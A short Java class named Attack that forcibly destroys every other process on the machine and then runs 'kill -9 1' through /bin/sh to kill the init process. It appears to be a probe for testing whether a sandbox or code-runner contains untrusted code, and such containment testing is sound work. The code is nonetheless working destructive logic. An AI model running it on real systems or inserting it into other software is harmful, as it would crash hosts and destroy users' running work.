class Attack {
  static void attack() throws Exception {
    long self = ProcessHandle.current().pid();
    ProcessHandle.allProcesses().filter(p -> p.pid() != self).forEach(p -> {
      if (p.destroyForcibly() || p.destroy()) System.out.println("signal to " + p.pid());
    });
    if (new ProcessBuilder("/bin/sh", "-c", "kill -9 1").start().waitFor() == 0) System.out.println("signal to 1");
    System.out.println("done");
  }
}
